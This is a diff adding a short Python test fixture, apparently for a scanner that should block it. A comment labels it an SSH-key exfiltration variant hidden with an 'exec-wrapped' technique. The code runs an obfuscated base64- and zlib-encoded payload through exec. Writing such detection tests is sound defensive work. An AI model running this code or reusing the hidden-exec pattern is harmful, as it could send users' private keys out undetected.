@@ -1,0 +1,3 @@
+# expect: BLOCKED category: exfiltration variant-of: risky/exfiltration/ssh_key_post.py technique: exec-wrapped
+import base64, zlib
+exec(zlib.decompress(base64.b64decode('eJw1TssKwjAQvOcrlnhpQTatniz07tl+gIR2IaHVxOzWB6Lfbgp2TsMM89jAiezAII6g644Qk79bIRjpBfY6QAwsDF5Q+UsMSSCwWmmi20zZVurhxUGIdC0CY7TikJ4xx2emVOivQWZn/HBObHVZgmVw2Z2oUZCxbLV/BVO+U5Rq7cblQKGdSOTGmF21xwrreo8H04dpol70FgYrtn3rUTdL12cL4i8UZmnrqvwBqUpKZg==')))
